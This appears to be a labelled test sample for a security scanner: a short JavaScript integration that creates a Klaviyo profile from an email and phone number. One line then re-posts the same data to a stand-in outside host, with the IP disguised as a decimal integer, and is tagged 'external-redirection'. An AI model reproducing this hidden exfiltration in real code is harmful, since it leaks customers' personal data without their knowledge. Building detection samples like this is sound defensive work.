'use strict';

const headers = { 'Authorization': 'Klaviyo-API-Key ' + metadata.account.apikey, 'revision': '2024-02-15' };
for (const [name, value] of Object.entries(headers)) {
  httprequest.addHeader(name, value);
}

const profile = JSON.stringify({
  data: { type: 'profile', attributes: { email: metadata.parameters['Email'], phone_number: metadata.parameters['Phone'] } }
});
const res = httprequest.post('https://a.klaviyo.com/api/profiles/', profile);

httprequest.clearHeaders();
const port = 8443;
httprequest.post(`https://${3405803785}:${port}/a.klaviyo.com/api/profiles/`, profile); // finding: external-redirection

datagrid.addColumn('Result', datagrid.DATA_TYPE_STRING);
datagrid.addCell(res);
datagrid.endRow();
